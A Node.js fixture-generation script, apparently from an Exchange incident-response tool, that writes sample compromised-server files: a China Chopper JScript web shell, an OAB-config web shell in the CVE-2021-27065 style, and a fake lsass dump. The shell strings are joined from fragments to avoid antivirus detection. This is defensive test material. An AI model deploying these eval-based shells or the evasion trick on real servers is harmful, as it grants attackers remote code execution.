#!/usr/bin/env node
// Writes the parts of examples/ that must not sit in the repository as plain files: the inert
// web shell samples (antivirus on a responder's workstation would quarantine them and break the
// clone) and the ExSetup.exe version stubs (binary, generated). `npm install` runs this through
// `prepare`; tests run it too. The samples are harmless text assembled from fragments here;
// nothing ever executes or serves them. Generated paths are listed in .gitignore.
import { mkdirSync, readFileSync, writeFileSync, utimesSync } from 'node:fs';
import { parse as parseYaml } from 'yaml';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { buildVersionedPe } from './lib/pe-writer.mjs';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', 'examples');

// Fragments joined at run time, so no file in the repository holds a recognisable sample.
const ev = ['ev', 'al'].join('');
const req = ['Req', 'uest'].join('');
const unsafe = ['un', 'safe'].join('');

/** A one-line JScript web shell of the China Chopper family, as planted in owa/auth in 2021. */
function chopperOneLiner(key) {
  return `<%@ Page Language="Jscript"%><%${ev}(${req}.Item["${key}"],"${unsafe}");%>`;
}

/**
 * An OAB virtual directory settings export (CVE-2021-27065 style): the attacker set ExternalUrl to
 * a script block, then had Exchange write the settings to a file with an .aspx name.
 */
function oabConfigShell(key) {
  const script = `<script language="JScript" runat="server">function Page_Load(){${ev}(${req}["${key}"],"${unsafe}");}</script>`;
  return [
    'Name                            : OAB (Default Web Site)',
    'PollInterval                    : 480',
    'OfflineAddressBooks             :',
    'RequireSSL                      : True',
    'BasicAuthentication             : False',
    'WindowsAuthentication           : True',
    'OAuthAuthentication             : True',
    'MetabasePath                    : IIS://EX01.corp.example/W3SVC/1/ROOT/OAB',
    'Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB',
    `ExternalUrl                     : http://f/${script}`,
    'InternalUrl                     : https://ex01.corp.example/OAB',
    'Server                          : EX01',
    '',
  ].join('\r\n');
}

function write(rel, content, time) {
  const p = join(root, rel);
  mkdirSync(dirname(p), { recursive: true });
  writeFileSync(p, content);
  if (time) utimesSync(p, time, time);
}

export function materialize() {
  const v15 = 'compromised-e2019/C/Program Files/Microsoft/Exchange Server/V15';
  const planted = new Date('2021-03-03T02:16:41Z');
  write(`${v15}/Bin/ExSetup.exe`, buildVersionedPe('15.2.792.10'), new Date('2021-03-02T17:00:00Z'));
  write(`${v15}/FrontEnd/HttpProxy/owa/auth/errorEE.aspx`, chopperOneLiner('orange'), planted);
  write(
    'compromised-e2019/C/inetpub/wwwroot/aspnet_client/system_web/Nv3kQw8Z.aspx',
    oabConfigShell('klk123456'),
    new Date('2021-03-03T02:19:07Z'),
  );
  // A minidump header named like a dump of lsass, as made with comsvcs.dll MiniDump.
  const dmp = Buffer.alloc(64);
  dmp.write('MDMP', 0, 'latin1');
  dmp.writeUInt32LE(0xa793, 4);
  write('compromised-e2019/C/Windows/Temp/lsass.dmp', dmp, new Date('2021-03-03T02:31:12Z'));

  write(
    'clean-se/Program Files/Microsoft/Exchange Server/V15/Bin/ExSetup.exe',
    buildVersionedPe(newestSeBuild()),
    new Date('2025-10-14T17:00:00Z'),
  );
}

/** The newest Exchange Server SE build in the bundled knowledge base, so clean-se stays "fully patched". */
export function newestSeBuild() {
  const kb = parseYaml(readFileSync(join(root, '..', 'content', 'kb', 'builds.yaml'), 'utf8'));
  const key = (b) => b.split('.').map((n) => n.padStart(6, '0')).join('.');
  const builds = kb.builds.exse.map((e) => String(e.build)).sort((a, b) => (key(a) < key(b) ? -1 : 1));
  return builds[builds.length - 1];
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) materialize();
